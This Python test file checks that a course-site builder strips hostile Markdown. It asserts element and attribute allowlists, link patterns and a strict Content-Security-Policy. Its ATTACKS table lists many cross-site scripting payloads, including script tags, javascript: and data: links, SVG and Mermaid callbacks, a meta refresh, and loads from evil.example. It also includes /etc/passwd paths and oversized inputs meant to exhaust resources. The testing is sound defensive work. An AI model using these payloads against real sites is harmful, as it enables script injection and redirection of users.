"""Hostile Markdown from an engine: no script, request or HTML of its own reaches a page."""

import re
import time
from typing import Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.course.site.pages import PAGE, Elements, article, course
from worker.course.site.build import build

TAGS: Final = frozenset(
    """
    h1 h2 h3 h4 h5 h6 p a em strong s code pre span ul ol li blockquote hr br table thead tbody
    tr th td div details summary figure svg desc g text rect path polygon circle
    """.split()  # noqa: SIM905 - a list of forty strings is harder to read
)
ATTRIBUTES: Final = {
    "a": {"href"},
    "circle": {"cx", "cy", "r", "class"},
    "div": {"class", "tabindex"},
    "figure": {"class", "tabindex"},
    "g": {"transform"},
    "ol": {"start"},
    "p": {"class"},
    "path": {"d", "class"},
    "polygon": {"points", "class"},
    "pre": {"tabindex"},
    "rect": {"x", "y", "width", "height", "rx", "class"},
    "span": {"class"},
    "svg": {"role", "class", "aria-label", "width", "height", "viewbox"},
    "td": {"class"},
    "text": {"x", "y", "class"},
    "th": {"class"},
    **{f"h{level}": {"id"} for level in range(1, 7)},
}
LINK: Final = re.compile(
    r"https://[^@]*|#[^:]*|chapter_\d+_\w+\.html(#[^:]*)?|\.\./step\d_\w+\.yaml"
)
ATTACKS: Final = {
    "script": "<script>alert(1)</script>",
    "script in capitals, cut": "<SCRIPT\nSRC=//evil.example/x.js>",
    "event of an element": '<b onclick="alert(1)">x</b> <details ontoggle=alert(1) open>',
    "event of a fold": "<details open onclick=x>\n<summary onclick=x>y</summary>",
    "image": "<img src=//evil.example/x.png> ![x](https://evil.example/x.png)",
    "image of an inner file": "![x](../../etc/passwd) ![x](data:image/svg+xml,<svg>)",
    "image in a link": "[![x](https://evil.example/x)](https://good.example/)",
    "javascript link": "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1))",
    "javascript link, spaced": "[x](<java\tscript:alert(1)>) [x](&#x6A;avascript:alert(1))",
    "javascript link, by control character": "[x](\x01javascript:alert(1))",
    "data link": "[x](data:text/html,<script>alert(1)</script>)",
    "file, vbscript, blob": "[x](file:///etc/passwd) [y](vbscript:x) [z](blob:x)",
    "reference": "[x]\n\n[x]: javascript:alert(1)",
    "reference to a data URL": '[x][y]\n\n[y]: data:text/html,x "title"',
    "autolinks": "<javascript:alert(1)> <data:text/html,x> <a@b.example> <http://x.example>",
    "link without a scheme": "[x](//evil.example/) [y](/etc/passwd) [z](\\\\evil\\x)",
    "link with a password": "[x](https://github.com@evil.example/)",
    "link with quotes": '[x](https://a.example/"onmouseover="alert(1))',
    "title": '[x](https://a.example/ "\\" onclick=\\"alert(1)")',
    "raw link": '<a href="javascript:alert(1)">x</a> <a href=https://evil.example>x</a>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#0; &quot;",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "style": "<style>@import url(//evil.example)</style> <p style='x:url(//e)'>",
    "iframe": "<iframe src=https://evil.example></iframe><object data=x><embed src=x>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base and form": '<base href="https://evil.example/"><form action=x><input>',
    "comment and instruction": "<!-- x --> <![CDATA[x]]> <?php x ?> <!doctype x>",
    "comment that is not closed": "<!--\n\n# x",
    "end of the article": "</article></main></body></html>\n<script>x</script>",
    "end of a fold": "</details></summary></details>\n\n- <details>\n\n</details>\n\n> <summary>",
    "front matter": "---\ntitle: <script>alert(1)</script>\n---\n# x",
    "language of a fence": '```"><script>alert(1)</script>\nx\n```',
    "code": "`<script>` ``` <img> ```\n\n    <script>\n\n~~~html\n</code></pre><script>\n~~~",
    "heading": '# <script>x</script> "onclick=x\n\n## ui.main\n\n## x" onclick="y',
    "table": '| a |\n| :-: |\n| <script>x</script> "|" |\n| [x](javascript:x) |',
    "emphasis": "**<script>** _<b>_ ~~<i>~~",
    "mermaid: click": '```mermaid\ngraph TD\nA-->B\nclick A "javascript:alert(1)"\n```',
    "mermaid: callback": "```mermaid\ngraph TD\nA-->B\nclick A call alert(1)\n```",
    "mermaid: directive": "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\n"
    "graph TD\nA-->B\n```",
    "mermaid: label": '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]-->|<script>|B\n```',
    "mermaid: style": "```mermaid\ngraph TD\nA-->B\nstyle A fill:url(//evil.example)\n```",
    "mermaid: classes": '```mermaid\nclassDiagram\nclass A["<script>"]{\n+x() "onclick=\n}\n```',
    "mermaid: sequence": "```mermaid\nsequenceDiagram\nA->>B: <script>x</script>\n"
    "Note over A: <b onclick=x>\n```",
    "mermaid: end of the fence": "```mermaid\n</svg><script>alert(1)</script>\n```",
    "mermaid: front matter": "```mermaid\n---\nconfig:\n  x: <script>\n---\ngraph TD\nA-->B\n```",
    "control characters": "a\x00b\x07c\x1bd\u202ee\u2066f\x7f\x85 [x](https://a.example/\x00)",
    "carriage returns": "# a\r\r\n<script>\rx</script>\r",
    "deep quotes": ">" * 5_000 + " x",
    "deep lists": "\n".join("  " * depth + "- x" for depth in range(300)),
    "deep folds": "<details>\n" * 3_000 + "x",
    "deep brackets": "[" * 20_000 + "x" + "]" * 20_000,
    "deep emphasis": "*a _b " * 15_000,
    "a line of a megabyte": "x" * 1_000_000,
    "a paragraph of many links": "[a](b" * 60_000,
    "backticks": "".join("`" * n + " " for n in range(700)),
    "a line of code of a megabyte": "```python\n" + "(" * 1_000_000 + "\n```",
    "many entities": "&" * 50_000 + "&amp;" * 10_000,
    "many autolinks": "<a" * 50_000,
    "many references": "\n".join(f"[{n}]: x\n" for n in range(20_000)),
    "many table cells": "|a" * 5_000
    + "\n"
    + "|-" * 5_000
    + "\n"
    + "|a\n" * 5_000,
    "many folds": "<details><summary>x</summary>y</details>\n" * 5_000,
}


def check(html: str) -> None:
    """Fail where a page holds something that a course's Markdown must not bring about."""
    for tag, attributes in Elements(html).elements:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        if "href" in attributes:
            assert LINK.fullmatch(attributes["href"]), attributes["href"]
    assert not re.search(
        r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]", html
    )


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_no_page_holds_more_than_text_and_its_own_elements(attack: str) -> None:
    before = time.process_time()
    html = article(f"# Signer\n\n{attack}\n\nThe end.\n")
    assert time.process_time() - before < 20
    check(html)


def test_names_and_summaries_are_text_too() -> None:
    evil = "</title><script>alert(1)</script>"
    files = course("# Signer")
    files = {
        path: body.replace(b"signs", evil.encode())
        for path, body in files.items()
    }
    for path, body in build(files, evil).items():
        if path.endswith(".html"):
            page = Elements(body.decode())
            assert len(page.named("script")) == 2
            assert all(
                set(script) == {"src", "defer"}
                for script in page.named("script")
            )


def test_a_page_allows_only_its_own_scripts_and_styles() -> None:
    page = Elements(build(course("# Signer"), "project")[PAGE].decode())
    [policy] = [
        meta["content"]
        for meta in page.named("meta")
        if meta.get("http-equiv") == "Content-Security-Policy"
    ]
    assert policy.startswith("default-src 'none'; ")
    assert "unsafe" not in policy
    assert "http" not in policy
    assert all("style" not in attributes for _, attributes in page.elements)


PIECES: Final = [
    "<details>",
    "</details>",
    "<summary>",
    "</summary>",
    "<br>",
    "<b>",
    "&lt;",
    "&#0;",
    "https://a.example",
    "javascript:",
    "chapter_1_signer.md#x",
    "#",
    "`",
    "```",
    "~~~",
    "*",
    "_",
    "[",
    "](",
    ")",
    "|",
    "-",
    ">",
    "1.",
    "---",
    "x",
    "é",
    "\\",
    '"',
    "sequenceDiagram",
    "A->>B:",
    "A-->B",
]
SPACES: Final = ["\n", "\n\n", " ", "    ", "\n|-|-|\n", "\n- ", "\n> ", "\x00"]


@settings(max_examples=150)
@given(pieces=st.lists(st.sampled_from(PIECES + SPACES), max_size=40))
def test_no_mixture_of_pieces_gets_through(pieces: list[str]) -> None:
    check(article("".join(["x", *pieces])))


@settings(max_examples=100)
@given(text=st.text(max_size=80))
def test_any_text_is_a_page(text: str) -> None:
    check(article(f"x{text}"))
